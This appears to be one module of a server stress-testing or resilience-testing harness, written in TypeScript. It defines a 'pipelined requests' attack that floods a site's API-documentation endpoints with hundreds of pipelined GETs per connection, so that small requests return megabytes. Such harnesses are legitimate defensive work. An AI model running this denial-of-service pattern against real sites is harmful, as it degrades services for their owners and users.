import { keepConnected, get } from '../connections.ts'
import type { Attack } from '../attack.ts'

/** Each 23 KB of requests ask for megabytes; the answers are read. */
export const attack: Attack = {
  name: 'pipelined requests',
  run: (site, until) =>
    keepConnected(site, until, 2, (socket) => {
      socket.resume()
      socket.write(get('/docs/api/json').repeat(600))
      socket.write(get('/docs/api/js/scalar.js').repeat(600))
    }),
}
